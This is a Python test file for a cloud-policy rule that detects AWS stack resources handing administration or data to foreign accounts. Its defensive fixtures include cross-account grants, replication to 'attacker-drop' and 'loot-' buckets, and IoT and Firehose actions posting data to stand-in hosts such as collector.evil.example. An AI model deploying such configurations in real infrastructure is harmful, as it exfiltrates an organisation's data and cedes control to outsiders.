"""AGID-AWS-064 over gRPC (issue 11; red11a r02 r03 r14 r25 r26 r31 r34 r36): a plain input handing administration,
data, a network path or code execution to an account not known to be the stack's own blocks; the same resource
naming an account in ownAccountIds, or a bucket / role / resource of the stack, passes.

Before: each flagged case below passed `agentid preview` (AGID-AWS-050 reads only policy documents): S3 Access Grants
to arn:aws:iam::999999999999:root, GuardDuty / Security Hub / Macie / Detective / Inspector / Firewall Manager
administered by 999999999999, an OpenSearch master user of that account, Backup copies, S3 / ECR replication, log
subscriptions, CloudTrail and Bedrock logs to it, Lambda layers and images of it, AMIs shared with "all" by Image
Builder.
"""

from __future__ import annotations

import json
import re

import pytest

from agentid.analyzer_client import StackResource
from tests.policy.pack_cases import stack_findings
from tests.policy.ruletools import UNKNOWN
from tests.policy.test_pack_grpc import urn

RULE = "AGID-AWS-064"
OWN, OTHER = "111122223333", "999999999999"
OWN_CONFIG = {RULE: {"ownAccountIds": [OWN]}}


def res(type_: str, name: str, props: dict, depends: tuple[str, ...] = ()) -> StackResource:
    return StackResource(type_, name, urn(type_, name), props, dependencies=list(depends))


def findings(pack, *resources) -> list[tuple[str, str]]:
    """(name, the rule's own message, without the rule description the pack puts before it) of each finding."""
    return [(name, message.rsplit("\n[public-access] ", 1)[-1])
            for name, message in stack_findings(pack, RULE, resources, "mandatory")]


def _accounts(account: str) -> dict[str, tuple[str, dict]]:
    """case -> (type, inputs) naming `account` where the data file says the input hands something over."""
    a = account
    logs = f"arn:aws:logs:eu-west-1:{a}:destination:central"
    return {
        "access_grant": ("aws:s3control/accessGrant:AccessGrant", {
            "accessGrantsLocationId": "default", "permission": "READWRITE",
            "grantee": {"granteeType": "IAM", "granteeIdentifier": f"arn:aws:iam::{a}:root"}}),
        "security_lake_subscriber": ("aws:securitylake/subscriber:Subscriber", {
            "accessType": "S3", "subscriberIdentity": {"externalId": "x", "principal": a}}),
        # r16-8: groups (bound by the cluster's RBAC, outside the program) instead of an access policy
        "eks_access_entry_groups": ("aws:eks/accessEntry:AccessEntry", {
            "clusterName": "prod", "principalArn": f"arn:aws:iam::{a}:root", "kubernetesGroups": ["ops-admins"]}),
        "eks_access_entry_role": ("aws:eks/accessEntry:AccessEntry", {
            "clusterName": "prod", "principalArn": f"arn:aws:iam::{a}:role/anything", "type": "STANDARD"}),
        # issue 11 (awsesc3): the association alone (no AccessEntry in the program: it may exist outside the stack),
        # even of the view-only policy
        "eks_access_policy_association": ("aws:eks/accessPolicyAssociation:AccessPolicyAssociation", {
            "clusterName": "prod", "principalArn": f"arn:aws:iam::{a}:role/anything",
            "policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy",
            "accessScope": {"type": "namespace", "namespaces": ["agents"]}}),
        "guardduty_admin": ("aws:guardduty/organizationAdminAccount:OrganizationAdminAccount", {"adminAccountId": a}),
        "securityhub_admin": ("aws:securityhub/organizationAdminAccount:OrganizationAdminAccount",
                              {"adminAccountId": a}),
        "macie_admin": ("aws:macie2/organizationAdminAccount:OrganizationAdminAccount", {"adminAccountId": a}),
        "detective_admin": ("aws:detective/organizationAdminAccount:OrganizationAdminAccount", {"accountId": a}),
        "inspector_admin": ("aws:inspector2/delegatedAdminAccount:DelegatedAdminAccount", {"accountId": a}),
        "fms_admin": ("aws:fms/adminAccount:AdminAccount", {"accountId": a}),
        "opensearch_master": ("aws:opensearch/domain:Domain", {"domainName": "logs", "advancedSecurityOptions": {
            "enabled": True, "masterUserOptions": {"masterUserArn": f"arn:aws:iam::{a}:role/admin"}}}),
        "shared_directory": ("aws:directoryservice/sharedDirectory:SharedDirectory", {
            "directoryId": "d-1234567890", "method": "HANDSHAKE", "target": {"id": a, "type": "ACCOUNT"}}),
        "opensearch_vpc_endpoint": ("aws:opensearch/authorizeVpcEndpointAccess:AuthorizeVpcEndpointAccess",
                                    {"domainName": "logs", "account": a}),
        "eni_permission": ("aws:ec2/networkInterfacePermission:NetworkInterfacePermission", {
            "networkInterfaceId": "eni-1", "awsAccountId": a, "permission": "INSTANCE-ATTACH"}),
        "license_grant": ("aws:licensemanager/licenseGrant:LicenseGrant", {
            "name": "g", "allowedOperations": ["CreateGrant"], "principal": f"arn:aws:iam::{a}:root",
            "licenseArn": f"arn:aws:license-manager::{OWN}:license:l-1"}),
        "lambda_layer": ("aws:lambda/function:Function", {
            "role": f"arn:aws:iam::{OWN}:role/fn", "layers": [f"arn:aws:lambda:eu-west-1:{a}:layer:telemetry:1"]}),
        "lambda_image": ("aws:lambda/function:Function", {
            "role": f"arn:aws:iam::{OWN}:role/fn", "packageType": "Image",
            "imageUri": f"{a}.dkr.ecr.eu-west-1.amazonaws.com/fn:latest"}),
        "backup_copy": ("aws:backup/plan:Plan", {"name": "all", "rules": [{
            "ruleName": "r", "targetVaultName": "Default",
            "copyActions": [{"destinationVaultArn": f"arn:aws:backup:eu-west-1:{a}:backup-vault:copy"}]}]}),
        "s3_replication": ("aws:s3/bucketReplicationConfig:BucketReplicationConfig", {
            "bucket": "data", "role": f"arn:aws:iam::{OWN}:role/r", "rules": [{
                "id": "all", "status": "Enabled", "destination": {"bucket": "arn:aws:s3:::replica", "account": a}}]}),
        "ecr_replication": ("aws:ecr/replicationConfiguration:ReplicationConfiguration", {"replicationConfiguration": {
            "rules": [{"destinations": [{"region": "eu-west-1", "registryId": a}]}]}}),
        "log_subscription": ("aws:cloudwatch/logSubscriptionFilter:LogSubscriptionFilter", {
            "logGroup": "/aws/lambda/prod", "filterPattern": "", "destinationArn": logs}),
        "log_account_policy": ("aws:cloudwatch/logAccountPolicy:LogAccountPolicy", {
            "policyName": "all", "policyType": "SUBSCRIPTION_FILTER_POLICY", "scope": "ALL",
            "policyDocument": json.dumps({"DestinationArn": logs, "FilterPattern": ""})}),
        "event_target": ("aws:cloudwatch/eventTarget:EventTarget", {
            "rule": "all", "arn": f"arn:aws:events:eu-west-1:{a}:event-bus/default"}),
        "imagebuilder_share": ("aws:imagebuilder/distributionConfiguration:DistributionConfiguration", {
            "name": "d", "distributions": [{"region": "eu-west-1",
                                            "amiDistributionConfiguration": {"launchPermission": {"userIds": [a]}}}]}),
        "ecs_image": ("aws:ecs/taskDefinition:TaskDefinition", {"family": "x", "containerDefinitions": json.dumps(
            [{"name": "app", "image": f"{a}.dkr.ecr.eu-west-1.amazonaws.com/app@sha256:{'0' * 64}"}])}),
        "flow_log": ("aws:ec2/flowLog:FlowLog", {"vpcId": "vpc-1", "logDestinationType": "cloud-watch-logs",
                                                 "logDestination": f"arn:aws:logs:eu-west-1:{a}:log-group:flows"}),
        "waf_logging": ("aws:wafv2/webAclLoggingConfiguration:WebAclLoggingConfiguration", {
            "resourceArn": f"arn:aws:wafv2:eu-west-1:{OWN}:regional/webacl/w/1",
            "logDestinationConfigs": [f"arn:aws:firehose:eu-west-1:{a}:deliverystream/aws-waf-logs-x"]}),
        "s3_notification": ("aws:s3/bucketNotification:BucketNotification", {
            "bucket": "replica", "queues": [{"queueArn": f"arn:aws:sqs:eu-west-1:{a}:uploads", "events": ["s3:*"]}]}),
        "dlm_share": ("aws:dlm/lifecyclePolicy:LifecyclePolicy", {"description": "d", "policyDetails": {
            "resourceTypes": ["VOLUME"], "schedules": [{"name": "s", "shareRule": {"targetAccounts": [a]}}]}}),
        # red17 r17-2: destination inputs (no policy) of every type: ARNs, SQS queue URLs (both spellings)
        "lambda_async_destination": ("aws:lambda/functionEventInvokeConfig:FunctionEventInvokeConfig", {
            "functionName": "fn", "destinationConfig": {"onSuccess": {"destination": f"arn:aws:sqs:us-east-1:{a}:drop"},
                                                        "onFailure": {"destination": f"arn:aws:sqs:us-east-1:{OWN}:dlq"}}}),
        "lambda_dead_letter": ("aws:lambda/function:Function", {
            "role": f"arn:aws:iam::{OWN}:role/fn", "deadLetterConfig": {"targetArn": f"arn:aws:sns:us-east-1:{a}:dlq"}}),
        "pipe_target": ("aws:pipes/pipe:Pipe", {"roleArn": f"arn:aws:iam::{OWN}:role/p",
                                                "source": f"arn:aws:sqs:us-east-1:{OWN}:src",
                                                "target": f"arn:aws:sqs:us-east-1:{a}:drop"}),
        "iot_sqs_url": ("aws:iot/topicRule:TopicRule", {"enabled": True, "sql": "SELECT * FROM '#'", "sqlVersion":
                        "2016-03-23", "sqs": [{"queueUrl": f"https://sqs.us-east-1.amazonaws.com/{a}/drop",
                                               "roleArn": f"arn:aws:iam::{OWN}:role/r", "useBase64": False}]}),
        "iot_error_sqs_legacy_url": ("aws:iot/topicRule:TopicRule", {
            "enabled": True, "sql": "SELECT * FROM 'a'", "sqlVersion": "2016-03-23",
            "errorAction": {"sqs": {"queueUrl": f"https://eu-west-1.queue.amazonaws.com/{a}/drop",
                                    "roleArn": f"arn:aws:iam::{OWN}:role/r", "useBase64": False}}}),
        "iot_sns": ("aws:iot/topicRule:TopicRule", {"enabled": True, "sql": "SELECT * FROM '#'", "sqlVersion":
                    "2016-03-23", "sns": [{"targetArn": f"arn:aws:sns:us-east-1:{a}:drop",
                                           "roleArn": f"arn:aws:iam::{OWN}:role/r"}]}),
        "sesv2_event_destination": ("aws:sesv2/configurationSetEventDestination:ConfigurationSetEventDestination", {
            "configurationSetName": "cs", "eventDestinationName": "d", "eventDestination": {
                "matchingEventTypes": ["SEND"], "snsDestination": {"topicArn": f"arn:aws:sns:us-east-1:{a}:drop"}}}),
        "ses_event_destination": ("aws:ses/eventDestination:EventDestination", {
            "configurationSetName": "cs", "matchingTypes": ["send"],
            "kinesisDestination": {"streamArn": f"arn:aws:kinesis:us-east-1:{a}:stream/drop",
                                   "roleArn": f"arn:aws:iam::{OWN}:role/r"}}),
        "ses_receipt_bounce_topic": ("aws:ses/receiptRule:ReceiptRule", {
            "ruleSetName": "rs", "bounceActions": [{"message": "m", "sender": "a@b.c", "smtpReplyCode": "550",
                                                     "position": 1, "topicArn": f"arn:aws:sns:us-east-1:{a}:mail"}]}),
        "schedule_dead_letter": ("aws:scheduler/schedule:Schedule", {"scheduleExpression": "rate(1 hour)",
            "flexibleTimeWindow": {"mode": "OFF"}, "target": {
                "arn": f"arn:aws:sqs:us-east-1:{OWN}:work", "roleArn": f"arn:aws:iam::{OWN}:role/s",
                "deadLetterConfig": {"arn": f"arn:aws:sqs:us-east-1:{a}:drop"}}}),
        "rds_event_subscription": ("aws:rds/eventSubscription:EventSubscription", {
            "snsTopic": f"arn:aws:sns:us-east-1:{a}:events"}),
        "neptune_event_subscription": ("aws:neptune/eventSubscription:EventSubscription", {
            "snsTopicArn": f"arn:aws:sns:us-east-1:{a}:events"}),
        "sagemaker_workteam_topic": ("aws:sagemaker/workteam:Workteam", {
            "workteamName": "w", "description": "d", "notificationConfiguration": {
                "notificationTopicArn": f"arn:aws:sns:us-east-1:{a}:tasks"}}),
        "mail_manager_lambda": ("aws:mailmanager/ruleSet:RuleSet", {"ruleSetName": "rs", "rules": [{"actions": [
            {"invokeLambda": {"functionArn": f"arn:aws:lambda:us-east-1:{a}:function:mail",
                              "invocationType": "EVENT", "roleArn": f"arn:aws:iam::{OWN}:role/m"}}]}]}),
        "customer_profiles_dlq_url": ("aws:customerprofiles/domain:Domain", {
            "domainName": "d", "defaultExpirationDays": 365,
            "deadLetterQueueUrl": f"https://sqs.us-east-1.amazonaws.com/{a}/dlq"}),
        "state_machine_logs": ("aws:sfn/stateMachine:StateMachine", {
            "roleArn": f"arn:aws:iam::{OWN}:role/sm", "definition": json.dumps({"StartAt": "A", "States": {
                "A": {"Type": "Pass", "End": True}}}), "loggingConfiguration": {
                "level": "ALL", "includeExecutionData": True,
                "logDestination": f"arn:aws:logs:us-east-1:{a}:log-group:sfn:*"}}),
        "metric_alarm_topic": ("aws:cloudwatch/metricAlarm:MetricAlarm", {
            "comparisonOperator": "GreaterThanThreshold", "evaluationPeriods": 1, "threshold": 1,
            "alarmActions": ["arn:aws:automate:us-east-1:ec2:stop", f"arn:aws:sns:us-east-1:{a}:alarms"]}),
        "notification_rule": ("aws:codestarnotifications/notificationRule:NotificationRule", {
            "detailType": "FULL", "eventTypeIds": ["codepipeline-pipeline-pipeline-execution-failed"],
            "resource": f"arn:aws:codepipeline:us-east-1:{OWN}:p", "targets": [
                {"address": f"arn:aws:sns:us-east-1:{a}:events"}]}),
        "cloudformation_stack_topic": ("aws:cloudformation/stack:Stack", {
            "templateBody": "{}", "notificationArns": [f"arn:aws:sns:us-east-1:{a}:stack-events"]}),
        "firehose_stream_from_route53": ("aws:route53/resolverQueryLogConfig:ResolverQueryLogConfig", {
            "destinationArn": f"arn:aws:firehose:us-east-1:{a}:deliverystream/dns"}),
    }


@pytest.mark.parametrize("case", sorted(_accounts(OTHER)))
def test_an_input_naming_a_foreign_account_blocks_and_the_own_account_passes(pack, case: str) -> None:
    pack.configure(OWN_CONFIG)
    replica = res("aws:s3/bucketV2:BucketV2", "replica", {"bucket": "replica"})  # the stack's own bucket
    type_, foreign = _accounts(OTHER)[case]
    found = findings(pack, replica, res(type_, case, foreign, (replica.urn,)))
    assert [name for name, _ in found] == [case], found
    assert f"account {OTHER} is a foreign account (the stack's own: {OWN})" in found[0][1]
    type_, own = _accounts(OWN)[case]
    assert findings(pack, replica, res(type_, case, own, (replica.urn,))) == []  # created after the replica bucket


def test_without_own_accounts_a_named_account_is_cannot_tell(pack) -> None:
    pack.configure({})
    type_, props = _accounts(OTHER)["guardduty_admin"]
    assert findings(pack, (type_, "gd", props)) == [
        ("gd", f"gd hands administration of GuardDuty (findings, detectors, suppression rules) for every member "
               f"account to {OTHER} (adminAccountId): cannot tell whether account {OTHER} is yours: list it in "
               "ownAccountIds")]


def test_public_sharing_blocks_whoever_the_own_accounts_are(pack) -> None:
    pack.configure(OWN_CONFIG)
    found = findings(pack, ("aws:imagebuilder/distributionConfiguration:DistributionConfiguration", "ib", {
        "distributions": [{"region": "eu-west-1", "amiDistributionConfiguration": {
            "launchPermission": {"userGroups": ["all"], "userIds": [OWN]}}}]}))
    assert len(found) == 1 and "makes every image the pipeline builds" in found[0][1] and "public" in found[0][1]


def test_buckets_and_roles_must_be_the_stacks_own(pack) -> None:
    pack.configure(OWN_CONFIG)
    bucket = res("aws:s3/bucketV2:BucketV2", "trail-logs", {"bucket": "org-trail-logs"})
    role = res("aws:iam/role:Role", "srt", {"name": "srt", "assumeRolePolicy": "{}"})
    # a literal names the stack's bucket or role only for a resource created after it (depends_on, or an Output)
    after = (bucket.urn, role.urn)
    trail = res("aws:cloudtrail/trail:Trail", "trail", {"s3BucketName": "org-trail-logs"}, after)
    assert findings(pack, bucket, trail) == []
    assert [n for n, _ in findings(pack, trail)] == ["trail"]  # the same name, no such bucket in the stack
    # issue 11, a typed decoy: the stack's bucket of an existing bucket's name fails to create, and a trail that does
    # not wait for it is still created, writing to the existing bucket
    unordered = res("aws:cloudtrail/trail:Trail", "trail", {"s3BucketName": "org-trail-logs"})
    assert findings(pack, bucket, unordered)[0][1].endswith(
        "bucket org-trail-logs is named like trail-logs of this stack, but trail does not depend on it: were its create "
        "to fail (the name taken), this would name the existing bucket")
    code = res("aws:lambda/function:Function", "fn", {"role": f"arn:aws:iam::{OWN}:role/fn",
                                                      "s3Bucket": "org-trail-logs", "s3Key": "x.zip"}, after)
    assert findings(pack, bucket, code) == []
    assert "bucket org-trail-logs is not one this stack names" in findings(pack, code)[0][1]
    # a bucket the provider names (`trail-logs-<random>`) is named by no literal, even with depends_on on it
    auto = res("aws:s3/bucketV2:BucketV2", "trail-logs", {})
    literal = res("aws:cloudtrail/trail:Trail", "trail", {"s3BucketName": "trail-logs"}, (auto.urn,))
    assert [n for n, _ in findings(pack, auto, literal)] == ["trail"]
    logging = ("aws:bedrockmodel/invocationLoggingConfiguration:InvocationLoggingConfiguration", "bil", {
        "loggingConfig": {"s3Config": {"bucketName": f"loot-{OTHER}"}, "textDataDeliveryEnabled": True}})
    assert [n for n, _ in findings(pack, bucket, logging)] == ["bil"]
    for place, name in (("s3://org-trail-logs/athena/", []), (f"s3://loot-{OTHER}/athena/", ["wg"])):
        athena = res("aws:athena/workgroup:Workgroup", "wg", {"configuration": {"resultConfiguration": {
            "outputLocation": place}}}, after)
        assert [n for n, _ in findings(pack, bucket, athena)] == name
    firehose = res("aws:kinesis/firehoseDeliveryStream:FirehoseDeliveryStream", "fh", {
        "destination": "extended_s3", "extendedS3Configuration": {"bucketArn": "arn:aws:s3:::org-trail-logs"}}, after)
    assert findings(pack, bucket, firehose) == []
    drt = ("aws:shield/drtAccessRoleArnAssociation:DrtAccessRoleArnAssociation", "drt",
           {"roleArn": f"arn:aws:iam::{OWN}:role/OrganizationAccountAccessRole"})
    assert [n for n, _ in findings(pack, role, drt)] == ["drt"]
    assert findings(pack, role, res(drt[0], drt[1], {"roleArn": f"arn:aws:iam::{OWN}:role/srt"}, after)) == []
    assert [n for n, _ in findings(pack, role, (drt[0], drt[1], {"roleArn": f"arn:aws:iam::{OWN}:role/srt"}))] == \
        ["drt"]  # not waiting for the stack's role


def test_a_value_known_only_at_deployment_is_cannot_check_whatever_it_depends_on(pack) -> None:
    # red12 #7's class: depends_on a stack resource plus a constant behind an Output proves nothing
    pack.configure(OWN_CONFIG)
    vault = res("aws:backup/vault:Vault", "copy-vault", {"name": "copy"})
    for depends in ((vault.urn,), ()):
        plan = res("aws:backup/plan:Plan", "bp", {"rules": [{"copyActions": [{"destinationVaultArn": UNKNOWN}]}]},
                   depends)
        assert findings(pack, vault, plan) == []  # not a pass either: reported as the engine reports it
        found = [message for _, message in stack_findings(pack, RULE, [vault, plan])]
        assert len(found) == 1 and "cannot check until known: rules[0].copyActions[0].destinationVaultArn" in found[0]


def test_values_that_name_no_account_are_cannot_tell_and_aws_owned_arns_pass(pack) -> None:
    pack.configure(OWN_CONFIG)
    found = findings(pack, ("aws:guardduty/organizationAdminAccount:OrganizationAdminAccount", "gd",
                            {"adminAccountId": "security-team"}))
    assert found == [("gd", "gd hands administration of GuardDuty (findings, detectors, suppression rules) for every "
                            "member account to security-team (adminAccountId): 'security-team' is not an account id: "
                            "cannot tell whose it is")]
    # an image of a registry other than ECR names no account: not this rule's question
    assert findings(pack, ("aws:ecs/taskDefinition:TaskDefinition", "td", {"family": "x", "containerDefinitions":
                                                                         json.dumps([{"image": "nginx:1.27"}])})) == []
    # an SSM document of AWS (no account field) is AWS's own: AGID-AWS-057 judges what it runs
    ssm = ("aws:cloudwatch/eventTarget:EventTarget", "run",
           {"rule": "r", "arn": "arn:aws:ssm:eu-west-1::document/AWS-RunPatchBaseline"})
    assert findings(pack, ssm) == []
    # conditions: an Identity Center grantee of an access grant is no account
    assert findings(pack, ("aws:s3control/accessGrant:AccessGrant", "ag", {"grantee": {
        "granteeType": "DIRECTORY_USER", "granteeIdentifier": "83d43802-00b1-7054-db02-f1d683aacba5"}})) == []
    sqs = ("aws:sns/topicSubscription:TopicSubscription", "q",
           {"protocol": "sqs", "endpoint": f"arn:aws:sqs:eu-west-1:{OTHER}:loot"})
    assert [n for n, _ in findings(pack, sqs)] == ["q"]


def test_a_bucket_the_gate_lists_as_own_is_own_for_every_delivery(pack) -> None:
    """A bucket name carries no account: outside the stack, only the gate's ownS3Buckets (rules/aws_buckets.py, shared
    with AGID-AWS-073) says it is the organisation's. Inventory, replication and access-log deliveries to it pass; the
    same deliveries to an unlisted bucket block."""
    def deliveries(bucket: str) -> list[StackResource]:
        return [
            res("aws:s3/inventory:Inventory", "inventory", {"bucket": "data", "name": "all", "includedObjectVersions":
                "Current", "schedule": {"frequency": "Daily"}, "destination": {"bucket": {
                    "format": "CSV", "bucketArn": f"arn:aws:s3:::{bucket}", "accountId": OWN}}}),
            res("aws:s3/bucketReplicationConfig:BucketReplicationConfig", "replication", {
                "bucket": "data", "role": f"arn:aws:iam::{OWN}:role/r", "rules": [{
                    "id": "all", "status": "Enabled", "destination": {"bucket": f"arn:aws:s3:::{bucket}"}}]}),
            res("aws:s3/bucketLogging:BucketLogging", "access-logs", {"bucket": "data", "targetBucket": bucket,
                                                                       "targetPrefix": "data/"})]

    pack.configure({RULE: {"ownAccountIds": [OWN], "ownS3Buckets": ["acme-central-logs"]}})
    try:
        assert findings(pack, *deliveries("acme-central-logs")) == []
        flagged = findings(pack, *deliveries("attacker-drop"))
        assert sorted(n for n, _ in flagged) == ["access-logs", "inventory", "replication"]
        assert all("bucket attacker-drop is not one this stack names (its `bucket` input, or an autonamed bucket's Output), nor one of the gate's own "
                   "buckets (acme-central-logs)" in m for _, m in flagged), flagged
    finally:
        pack.configure(OWN_CONFIG)


def aws_auth(type_: str = "kubernetes:core/v1:ConfigMap", **data: str) -> tuple[str, str, dict]:
    return (type_, "aws-auth", {"metadata": {"name": "aws-auth", "namespace": "kube-system"}, "data": data})


def test_the_aws_auth_config_map_admitting_another_account_blocks_as_an_access_entry_does(pack) -> None:
    """red17 r17-11: the aws-auth ConfigMap (or a patch of it) admits IAM principals to an EKS cluster, the spelling of
    an access entry before access entries: another account's role or user, or a whole account, is a cross-account
    admission whatever the groups."""
    pack.configure(OWN_CONFIG)
    roles = f"- rolearn: arn:aws:iam::{OTHER}:role/anything\n  username: ops\n  groups: [ops-admins]\n"
    users = f"- userarn: arn:aws:iam::{OTHER}:user/alice\n  username: alice\n  groups: [ops-admins]\n"
    accounts = f'- "{OTHER}"\n'
    for type_ in ("kubernetes:core/v1:ConfigMap", "kubernetes:core/v1:ConfigMapPatch"):
        found = findings(pack, aws_auth(type_, mapRoles=roles, mapUsers=users, mapAccounts=accounts))
        assert [message.split(": ", 1)[0] for _, message in found] == [
            f"aws-auth hands access to the EKS cluster (an IAM identity of it authenticates and gets the mapped "
            f"groups) to {where} (data.{key}[0])" for key, where in (  # sorted by message
                ("mapAccounts", OTHER), ("mapRoles", f"arn:aws:iam::{OTHER}:role/anything"),
                ("mapUsers", f"arn:aws:iam::{OTHER}:user/alice"))], found
    own = aws_auth(mapRoles=roles.replace(OTHER, OWN), mapUsers=users.replace(OTHER, OWN), mapAccounts=f"- {OWN}\n")
    assert findings(pack, own) == []
    # another ConfigMap of the same name elsewhere maps nothing; an unreadable mapAccounts cannot be checked
    elsewhere = ("kubernetes:core/v1:ConfigMap", "aws-auth", {"metadata": {"name": "aws-auth", "namespace": "apps"},
                                                               "data": {"mapAccounts": accounts}})
    assert findings(pack, elsewhere) == []
    [(_, message)] = findings(pack, aws_auth(mapAccounts=f"{OTHER}: yes\n"))
    assert "cannot check: data.mapAccounts is not a YAML list of account ids" in message


def test_objects_the_stack_writes_go_only_into_own_buckets(pack) -> None:
    """A BucketObjectv2 / BucketObject / ObjectCopy uploads data at deploy time with the deployer's credentials: into a
    bucket of unknown owner it ships that data out. The stack's bucket (by an Output of it), a bucket the gate lists,
    or an ObjectCopy pinned with expectedBucketOwner (S3 refuses the copy when the owner differs) pass."""
    bucket = res("aws:s3/bucketV2:BucketV2", "site", {"bucket": "acme-site"})

    def writes(target: str, **extra) -> list[StackResource]:
        after = (bucket.urn,)
        return [res("aws:s3/bucketObjectv2:BucketObjectv2", "obj", {"bucket": target, "key": "k", "content": "x"}, after),
                res("aws:s3/bucketObject:BucketObject", "legacy", {"bucket": target, "key": "k", "content": "x"}, after),
                res("aws:s3/objectCopy:ObjectCopy", "copy", {"bucket": target, "key": "k", "source": "acme-site/k",
                                                            **extra}, after)]

    pack.configure({RULE: {"ownAccountIds": [OWN], "ownS3Buckets": ["acme-archive"]}})
    try:
        assert findings(pack, bucket, *writes("acme-site")) == []
        assert findings(pack, bucket, *writes("acme-archive")) == []
        flagged = findings(pack, bucket, *writes("attacker-drop"))
        assert sorted(n for n, _ in flagged) == ["copy", "legacy", "obj"]
        assert all("to attacker-drop (bucket): bucket attacker-drop is not one this stack names" in m for _, m in flagged)
        # the copy pinned to an own account passes; pinned to another account (or to none) it does not
        assert [n for n, _ in findings(pack, bucket, *writes("attacker-drop", expectedBucketOwner=OWN))] == \
            ["legacy", "obj"]
        assert [n for n, _ in findings(pack, bucket, *writes("attacker-drop", expectedBucketOwner=OTHER))] == \
            ["copy", "legacy", "obj"]
    finally:
        pack.configure(OWN_CONFIG)


def test_an_http_action_posts_to_a_host_no_account_can_be_read_from(pack) -> None:
    """red17 r17-2: an IoT rule's HTTPS action, a Firehose HTTP endpoint or a Transfer connector sends the data to a
    URL's host: no account is read from a host and the gate lists no hosts, so every literal host blocks (waive a
    reviewed endpoint by URN); an SQS queue URL in that place names its account, an ARN (an HTTP API's quick-create
    target takes either) its account."""
    pack.configure(OWN_CONFIG)
    iot = ("aws:iot/topicRule:TopicRule", "iot-https", {"enabled": True, "sql": "SELECT * FROM '#'", "sqlVersion":
           "2016-03-23", "https": [{"url": "https://collector.evil.example/in?x=1"}]})
    firehose = ("aws:kinesis/firehoseDeliveryStream:FirehoseDeliveryStream", "fh", {
        "destination": "http_endpoint", "httpEndpointConfiguration": {"url": "https://user@10.0.0.7:8443/put"}})
    assert findings(pack, iot, firehose) == [
        ("fh", "fh hands every record of the stream to https://user@10.0.0.7:8443/put (httpEndpointConfiguration.url): "
               "sends the data to host '10.0.0.7', not one of ownHosts (a URL carries no account: list your own "
               "endpoints' hosts with --own-host, or waive a reviewed endpoint by URN)"),
        ("iot-https", "iot-https hands every MQTT message the rule's SQL selects (and, for the error action, the failed "
                      "ones) to https://collector.evil.example/in?x=1 (https[0].url): sends the data to host "
                      "'collector.evil.example', not one of ownHosts (a URL carries no account: list your own "
                      "endpoints' hosts with --own-host, or waive a reviewed endpoint by URN)")]
    api = "aws:apigatewayv2/api:Api"
    assert findings(pack, (api, "api", {"protocolType": "HTTP",
                                        "target": f"arn:aws:lambda:us-east-1:{OWN}:function:fn"})) == []
    assert [n for n, _ in findings(pack, (api, "api", {"protocolType": "HTTP",
                                                       "target": f"arn:aws:lambda:us-east-1:{OTHER}:function:fn"}))] \
        == ["api"]
    assert [n for n, _ in findings(pack, (api, "api", {"protocolType": "HTTP", "target": "https://evil.example/"}))] \
        == ["api"]


def test_a_queue_url_that_is_not_one_cannot_be_checked(pack) -> None:
    pack.configure(OWN_CONFIG)
    dlq = "aws:customerprofiles/domain:Domain"
    for url in ("https://sqs.us-east-1.amazonaws.com.evil.example/111122223333/dlq",
                f"https://evil.example/{OWN}/dlq", "dlq"):
        [(_, message)] = findings(pack, (dlq, "cp", {"deadLetterQueueUrl": url}))
        assert message.endswith("is not an SQS queue URL (https://sqs.REGION.amazonaws.com/ACCOUNT/NAME): cannot tell "
                                "whose it is"), message
    for url in (f"https://sqs.eu-west-1.amazonaws.com/{OWN}/dlq", f"https://queue.amazonaws.com/{OWN}/dlq",
                f"https://sqs-fips.us-gov-west-1.amazonaws.com/{OWN}/dlq"):
        assert findings(pack, (dlq, "cp", {"deadLetterQueueUrl": url})) == [], url


def test_a_foreign_function_the_destination_runs_is_one_finding_of_aws_057(pack) -> None:
    """A Lambda function (or state machine) named as an async destination, a pipe's target or a schedule's target
    runs with the data: AGID-AWS-057 judges the object it runs, another account's included; AGID-AWS-064 leaves that
    value to it (one finding per value) and judges every other destination (a queue, topic, bus, stream)."""
    pack.configure(OWN_CONFIG)
    foreign_fn = f"arn:aws:lambda:us-east-1:{OTHER}:function:x"
    cases = [("aws:lambda/functionEventInvokeConfig:FunctionEventInvokeConfig", "dest", {
                 "functionName": "fn", "destinationConfig": {"onSuccess": {"destination": foreign_fn}}}),
             ("aws:pipes/pipe:Pipe", "pipe", {"roleArn": f"arn:aws:iam::{OWN}:role/p",
                                              "source": f"arn:aws:sqs:us-east-1:{OWN}:src", "target": foreign_fn}),
             ("aws:scheduler/schedule:Schedule", "sched", {"scheduleExpression": "rate(1 hour)", "flexibleTimeWindow":
                 {"mode": "OFF"}, "target": {"arn": foreign_fn, "roleArn": f"arn:aws:iam::{OWN}:role/s"}})]
    assert findings(pack, *cases) == []
    resources = [res(t, n, p) for t, n, p in cases]
    assert sorted(name for name, _ in stack_findings(pack, "AGID-AWS-057", resources)) == ["dest", "pipe", "sched"]


def _machine(states: dict, name: str = "sm") -> tuple[str, str, dict]:
    return ("aws:sfn/stateMachine:StateMachine", name, {"roleArn": f"arn:aws:iam::{OWN}:role/sm",
                                                        "definition": json.dumps({"StartAt": "A", "States": states})})


def _workflow(a: str) -> dict:
    """Task states naming account `a`'s function, activity, queue URL, topic, bus and (partial ARN) function, in a
    Parallel branch and a Map processor."""
    return {
        "A": {"Type": "Task", "Resource": f"arn:aws:lambda:us-east-1:{a}:function:x", "Next": "P"},
        "P": {"Type": "Parallel", "Next": "M", "Branches": [{"StartAt": "Q", "States": {
            "Q": {"Type": "Task", "Resource": "arn:aws:states:::sqs:sendMessage", "End": True,
                  "Parameters": {"QueueUrl": f"https://sqs.us-east-1.amazonaws.com/{a}/drop", "MessageBody.$": "$"}},
        }}]},
        "M": {"Type": "Map", "Next": "W", "ItemProcessor": {"StartAt": "T", "States": {
            "T": {"Type": "Task", "Resource": "arn:aws:states:::sns:publish", "End": True,
                  "Arguments": {"TopicArn": f"arn:aws:sns:us-east-1:{a}:drop", "Message": "{% $states.input %}"}}}}},
        "W": {"Type": "Task", "Resource": f"arn:aws:states:us-east-1:{a}:activity:worker", "Next": "E"},
        "E": {"Type": "Task", "Resource": "arn:aws:states:::events:putEvents", "Next": "L", "Parameters": {
            "Entries": [{"EventBusName": f"arn:aws:events:us-east-1:{a}:event-bus/default", "Detail.$": "$"}]}},
        "L": {"Type": "Task", "Resource": "arn:aws:states:::lambda:invoke", "End": True,
              "Parameters": {"FunctionName": f"{a}:function:x", "Payload.$": "$"}},
    }


def test_a_state_machine_task_naming_another_account_hands_it_the_workflows_data(pack) -> None:
    """red17 r17-2: a Task state's Resource (a function, an activity) or its integration's named parameter (QueueUrl,
    TopicArn, EventBusName, FunctionName, ...), in Parallel branches and Map processors too, hands the workflow's
